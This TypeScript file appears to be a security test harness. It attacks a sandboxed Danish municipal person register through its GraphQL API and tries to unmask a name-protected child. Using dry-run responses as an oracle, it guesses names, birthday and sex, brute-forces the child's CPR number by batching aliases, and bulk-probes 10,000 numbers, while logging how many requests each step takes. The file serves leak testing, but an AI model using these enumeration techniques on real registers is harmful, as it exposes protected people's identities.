import { type Asked, askedAs, cpr, enhed, kilde, kommune, linesOf, putChild, told } from './protected-child.ts';
import { startAttacked, type Target } from './target.ts';

/** What is guessed from: common names, with the right ones among them, and every day of six years. */
const fornavne = [...names('Fornavn', 400), 'Sigrun'];
const efternavne = [...names('Efternavn', 200), 'Mortensen'];
const days = Array.from({ length: 366 * 6 }, (_, n) => new Date(Date.UTC(2018, 0, 1 + n)).toISOString().slice(0, 10));

/**
 * Who may write people of a municipality, but not see the protected, tries to find out who a protected child is, from
 * answers to dry runs: names, sex and birthday with updatePerson, the number with changeCpr, 15 tries in a request, and
 * which of 10,000 numbers are somebody's with applyTilknytninger.
 */
export async function attack(target: Target): Promise<void> {
  const settings = { SAMPLE: 'small', REGISTER_MODE: 'sandbox', ENVIRONMENT: 'development' };
  const attacked = await startAttacked(target, settings);
  try {
    const as = (...roles: string[]) => askedAs(attacked, kommune, roles);
    const id = await putChild(await as('kommunal', 'navnebeskyttelse'));
    const attacker = await as('kommunal');
    const owner = await as('databeskyttelse');
    const log = () => linesOf(owner, 'person:kommunal');
    const stranger = await askedAs(attacked, '151', ['kommunal', 'databeskyttelse'], 'fremmed');
    const ofStranger = () => linesOf(owner, 'person:fremmed');
    await report('whether an id is of another municipality', ofStranger, () => findElsewhere(stranger, id));
    await report('names, sex and birthday by updatePerson', log, () => guessFields(attacker, id));
    await report('the CPR number by changeCpr, 15 aliases a request', log, () => guessNumber(attacker, id));
    await report('10,000 numbers by applyTilknytninger', log, () => probeNumbers(attacker));
  } finally {
    await attacked.stop();
  }
}

/** Whether answers tell an id that is somebody's elsewhere from one that nobody has, in any operation that takes one. */
async function findElsewhere(ask: Asked, id: string): Promise<Outcome> {
  const ofInput = (mutation: string, input: string) => ({
    mutation,
    query: `mutation ($id: ID!) { it: ${mutation}(dryRun: true, input: ${input}) { errors { code da path } } }`,
  });
  const calls = [
    ofInput('updatePerson', `{ personId: $id, kilde: "${kilde}" }`),
    ofInput('changeCpr', '{ personId: $id, cpr: "6605215242" }'),
    ofInput('erasePerson', '{ id: $id, begrundelse: "sag 1" }'),
    { mutation: 'exportPerson', query: 'query ($id: ID!) { it: exportPerson(id: $id) { personId } }' },
    { mutation: 'person', query: 'query ($id: ID!) { it: person(id: $id) { id } }' },
  ];
  const nobody = '0190a0b0-1111-4222-8333-444455556666';
  const tell = async (query: string, of: string) => {
    const answer = await ask(query, { id: of }).catch((error: Error) => error.message);
    return JSON.stringify(answer).replaceAll(of, '<id>');
  };
  const apart: string[] = [];
  for (const { mutation, query } of calls)
    if ((await tell(query, id)) !== (await tell(query, nobody))) apart.push(mutation);
  const requests = 2 * calls.length;
  return { requests, guesses: calls.length, found: `told apart by ${apart.join(', ') || 'nothing'}` };
}

interface Outcome {
  requests: number;
  guesses: number;
  found: string;
}

async function report(what: string, log: () => Promise<number>, run: () => Promise<Outcome>): Promise<void> {
  const [before, began] = [await log(), performance.now()];
  const { requests, guesses, found } = await run();
  const seconds = ((performance.now() - began) / 1000).toFixed(1);
  const lines = (await log()) - before;
  console.log(
    `${what}: ${found}; ${guesses} guesses in ${requests} requests, ${seconds} s, ${lines} lines in the read log`,
  );
}

/** Field by field: a guess is right when the answer lists another number of fields than it does for nonsense. */
async function guessFields(ask: Asked, personId: string): Promise<Outcome> {
  let requests = 0;
  const fieldsOf = async (said: object) => {
    requests++;
    const query = `mutation ($i: UpdatePersonInput!) { it: updatePerson(input: $i, dryRun: true) { ${told} } }`;
    const answer = await ask(query, { i: { personId, kilde, ...said } });
    return JSON.stringify([answer?.it?.changes.map(({ fields }) => fields), answer?.it?.errors]);
  };
  const find = async (field: string, nonsense: string, values: readonly string[]) => {
    const usual = await fieldsOf({ [field]: nonsense });
    for (const value of values) if ((await fieldsOf({ [field]: value })) !== usual) return value;
    return null;
  };
  const found = {
    fornavn: await find('fornavn', 'Xyzzy', fornavne),
    efternavn: await find('efternavn', 'Xyzzy', efternavne),
    foedselsdato: await find('foedselsdato', '1901-01-01', days),
    koen: (await fieldsOf({ koen: 'K' })) === (await fieldsOf({ koen: 'M' })) ? null : 'K or M',
  };
  const count = Object.values(found).filter((value) => value !== null).length;
  return { requests, guesses: requests, found: `${count} of 4 fields found` };
}

/** The right number is the one that would change nothing. */
async function guessNumber(ask: Asked, personId: string): Promise<Outcome> {
  const at = 15;
  const aliases = Array.from({ length: at }, (_, n) => n);
  const query = `mutation (${aliases.map((n) => `$i${n}: ChangeCprInput!`).join(' ')}) {
    ${aliases.map((n) => `a${n}: changeCpr(input: $i${n}, dryRun: true) { ${told} }`).join('\n')} }`;
  let requests = 0;
  // Born after 2000: the seventh digit is 4 or more.
  for (let serial = 4000; serial < 10_000; serial += at) {
    const guesses = aliases.map((n) => `660521${String((serial + n) % 10_000).padStart(4, '0')}`);
    const inputs = Object.fromEntries(guesses.map((guess, n) => [`i${n}`, { personId, cpr: guess }]));
    const answer = await ask(query, inputs);
    requests++;
    const answers = aliases.map((n) => answer?.[`a${n}`]);
    const right = answers.findIndex((one) => one?.changes.length === 0 && one.errors.length === 0);
    if (right >= 0) return { requests, guesses: serial - 4000 + right + 1, found: `found: ${guesses[right] === cpr}` };
    if (answers.every((one) => one?.errors.some(({ code }) => code === 'CPR_LIMIT')))
      return { requests, guesses: serial - 4000 + at, found: 'stopped by CPR_LIMIT, not found' };
  }
  return { requests, guesses: 6000, found: 'not found' };
}

/** A person whom the answer has an id of is known. */
async function probeNumbers(ask: Asked): Promise<Outcome> {
  const query = `mutation ($rows: [TilknytningRowInput!]!) {
    it: applyTilknytninger(input: { kilde: "${kilde}", rows: $rows }, dryRun: true) { ${told} } }`;
  let requests = 0;
  let found = 0;
  let answered = 0;
  for (let begin = 0; begin < 10_000; begin += 5000) {
    const rows = Array.from({ length: 5000 }, (_, n) => ({
      ekstern: {
        ...{ enhed, lokalId: `p${begin + n}`, rolle: 'Ekstern' },
        person: { cpr: `660521${String(begin + n).padStart(4, '0')}`, fornavn: 'Xy', efternavn: 'Zzy' },
      },
    }));
    const answer = await ask(query, { rows });
    requests++;
    const changes = answer?.it?.changes ?? [];
    if (changes.length > 0) answered += 5000;
    found += changes.filter(({ objectKind, id }) => objectKind === 'PERSON' && id !== null).length;
    found += answer?.it?.errors.some(({ code }) => code === 'CPR_LIMIT') ? 0 : (answer?.it?.errors.length ?? 0);
  }
  return { requests, guesses: 10_000, found: `${found} known persons told, ${answered} numbers answered` };
}

function names(stem: string, count: number): string[] {
  return Array.from({ length: count }, (_, n) => `${stem}${n}`);
}
